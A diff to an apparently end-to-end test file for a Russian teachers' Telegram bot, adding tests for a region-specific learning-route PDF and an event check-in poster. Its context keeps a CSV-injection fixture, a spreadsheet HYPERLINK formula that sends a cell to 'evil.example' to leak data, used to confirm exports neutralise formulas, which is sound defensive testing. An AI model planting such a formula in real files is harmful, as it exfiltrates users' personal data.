@@ -1,6 +1,8 @@
-"""Files people open in a spreadsheet, through the real bot: the participants CSV and the
-journal CSV. Text typed by users (names, schools, comments, event titles) never turns into a
-live formula, and the participants' waitlist column numbers the waitlist only.
+"""Files the bot hands out, through the real bot. The participants CSV and the journal CSV:
+text typed by users (names, schools, comments, event titles) never turns into a live formula,
+and the participants' waitlist column numbers the waitlist only. The route: a Volgodonsk
+(Rostov Oblast) teacher is offered the Rostov institute and no other region's; its PDF carries
+the route's own creation date and prints an emoji title readably. The check-in poster.
 
 Built on the shipped sample events (`tests.sample`): the masterclass with the tricky title has
 3 seats in Volgodonsk."""
@@ -10,14 +12,20 @@ from __future__ import annotations
 import csv
 import io
 from datetime import UTC, datetime, timedelta
+from zoneinfo import ZoneInfo
 
-from db.models import Event
+from sqlalchemy import select
+
+from db.models import Event, Route, RouteStep
 from db.reference.sample_events import SAMPLE_EVENT_CODES, TRICKY_TITLE
 from db.repo import Repo
+from domain.assessment import score
 from domain.roles import Role
 from handlers.event_admin import EventAdminCb
+from handlers.route import BuildCb, RouteCb
 from tests.e2e.conftest import Chat, Running
 from tests.e2e.flows import register
+from tests.pdftext import read_pdf
 from tests.sample import load_sample_events
 
 FORMULA_NAME = '=HYPERLINK("https://evil.example/?leak="&A2;"Иванова Анна")'
@@ -152,3 +160,85 @@ async def test_journal_csv_neutralises_event_titles(running: Running) -> None:
     assert set(by_title) == {"'" + FORMULA_TITLE, TRICKY_TITLE}
     assert by_title["'" + FORMULA_TITLE][3] == "1,5"  # a number stays a number
     _assert_no_live_formula(table)
+
+
+EMOJI_TITLE = "🎓 Итоги года: мастер-класс 👩🏽‍🎓 наставника"
+
+
+async def test_volgodonsk_route_offers_rostov_resources_and_its_pdf_has_the_build_date(
+    running: Running,
+) -> None:
+    muni, school_id = await _volgodonsk(running)
+    teacher = running.chat(8621, lang="ru")
+    await register(teacher, running.emu, municipality_id=muni, school_id=school_id)
+    async with running.app.sessionmaker() as session:
+        repo = Repo(session)
+        user = await repo.users.by_telegram_id(8621)
+        framework = await repo.frameworks.active()
+        assert user is not None and framework is not None
+        # gaps in the two competencies whose learning steps name regional institutes
+        weak = {"assessment", "health_saving"}
+        answers = {s.code: 0 if s.competency in weak else 2 for s in framework.statements(False)}
+        attempt = await repo.assessments.start(user.id, framework.version, False)
+        await repo.assessments.finish(
+            attempt, score(framework, answers, is_manager=False).to_json()
+        )
+        await session.commit()
+        user_id = user.id
+
+    await teacher.send("/route")
+    await teacher.tap_data(BuildCb(action="start", code="normal").pack())
+    async with running.app.sessionmaker() as session:
+        steps = list(
+            await session.scalars(select(RouteStep).join(Route).where(Route.user_id == user_id))
+        )
+        assert {s.competency for s in steps} == weak
+        urls = {r["url"] for s in steps for r in s.content.get("resources", [])}
+        assert "https://ripkro.ru/" in urls and "https://apkpro.ru/" in urls
+        assert not urls & {"https://skiro.ru/", "https://iro23.ru/"}, urls  # other regions'
+
+        # built late on 1 March (UTC) = 2 March in Moscow; one step titled with emoji
+        route = await session.scalar(select(Route).where(Route.user_id == user_id))
+        assert route is not None
+        route.created_at = datetime(2026, 3, 1, 22, 30, tzinfo=UTC)
+        first = min(steps, key=lambda s: s.position)
+        first.content = {**first.content, "title": {"ru": EMOJI_TITLE, "en": EMOJI_TITLE}}
+        await session.commit()
+
+    await teacher.tap_data(RouteCb(action="export").pack())
+    document = teacher.last.document
+    assert document is not None and document[0] == "route.pdf"
+    content = read_pdf(document[1])
+    assert content.info["CreationDate"] == "D:20260302013000+03'00'"
+    assert "Составлен 02.03.2026" in content.text
+    flat = " ".join(content.text.split())
+    assert "Итоги года: мастер-класс наставника" in flat
+    assert "  " not in content.text and "\ufffd" not in content.text
+
+
+async def test_check_in_poster_is_an_a4_pdf_with_the_event_and_the_code(running: Running) -> None:
+    events = await load_sample_events(running.app.sessionmaker)
+    tricky = events[SAMPLE_EVENT_CODES[0]]
+    muni, school_id = await _volgodonsk(running)
+    coord = await _coordinator(running, 8631, muni, school_id)
+    await coord.send("/myevents")
+    await coord.tap_data(EventAdminCb(action="card", event=tricky.id).pack())
+    await coord.tap("🔳 Check-in QR")
+    photo = coord.last  # the QR for a screen stays what the coordinator sees last
+    assert photo.photo is not None and f"/checkin {tricky.checkin_code}" in photo.plain_text
+    poster = next(
+        m.document
+        for m in reversed(running.emu.chat(coord.user.id))
+        if m.document is not None and m.document[0] == f"checkin-{tricky.id}.pdf"
+    )
+    content = read_pdf(poster[1])
+    flat = " ".join(content.text.split())
+    assert content.pages == 1
+    assert "EVENT CHECK-IN" in flat  # the coordinator's language
+    assert 'Мастер-класс <b>«Оценка & "рубрики"»</b> O\'Neil' in flat
+    start = tricky.starts_at.astimezone(ZoneInfo("Europe/Moscow"))
+    assert f"{start:%d.%m.%Y %H:%M}–" in flat
+    assert 'МБОУ «Гимназия № 1», каб. 12 <2 этаж> & "актовый зал"' in flat
+    assert " ".join(tricky.checkin_code) in flat
+    assert f"Scan the QR code or send the bot /checkin {tricky.checkin_code}" in flat
+    assert f"https://t.me/metodbot_test_bot?start=checkin_{tricky.id}-" in flat
